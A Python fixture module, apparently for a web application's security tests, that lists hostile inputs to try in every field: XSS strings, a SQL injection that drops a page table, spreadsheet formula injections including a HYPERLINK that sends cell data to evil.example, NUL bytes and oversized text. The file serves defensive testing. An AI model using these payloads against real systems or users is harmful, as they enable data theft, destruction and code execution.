"""What an attacker types into every field the suite tries."""

XSS = "</script><script>alert(document.domain)</script>"
XSS_ATTR = '"><img src=x onerror=alert(1)>'
SQL = "' OR '1'='1'; DROP TABLE wagtailcore_page; --"
DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
FORMULAS = (DDE, HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", '＝HYPERLINK("http://evil.example")')
NUL = "正常文字\x00隐藏"
OVERSIZED = "长" * 120_000
BAD_UTF8 = b"\xff\xfe\xc3\x28\xa0\xa1"

# name -> text payload (the invalid UTF-8 one is sent as raw bytes where it is tried)
TEXT_PAYLOADS = {
    "xss": XSS,
    "xss-attr": XSS_ATTR,
    "sql": SQL,
    "nul": NUL,
    "oversized": OVERSIZED,
    "javascript-url": "javascript:alert(document.cookie)",
}
